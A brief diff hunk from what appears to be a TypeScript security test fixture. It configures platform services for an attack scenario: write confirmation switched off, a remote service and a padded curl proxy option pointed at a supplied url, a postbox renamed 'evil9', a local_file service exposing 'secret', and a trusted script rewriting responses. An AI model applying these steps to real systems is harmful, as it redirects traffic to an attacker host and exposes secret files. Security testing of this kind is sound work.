@@ -73,6 +73,8 @@ function byHand({ instance: { root }, wideRole, app, services }: World, url: str
     patch(`system/service/${services.chief}`, { config: { confirm_writes: 'off' } }),
     patch(`system/service/${services.remote}`, { config: { base_url: url } }),
     patch(`system/service/${services.remote}`, { config: { options: { PROXY: null, ' curlopt_proxy ': url } } }),
+    patch(`system/service/${services.postbox}`, { name: 'evil9' }),
+    service('postbox', 'local_file', { container: 'evil9', public_path: ['secret'] }),
     ...everythingByConfig(url).map((record) => configure(record)),
     configure(...everythingByConfig(url)),
     { verb: 'PUT', path: 'files/trusted/script.js', body: `event.response.content = '${url}'` },
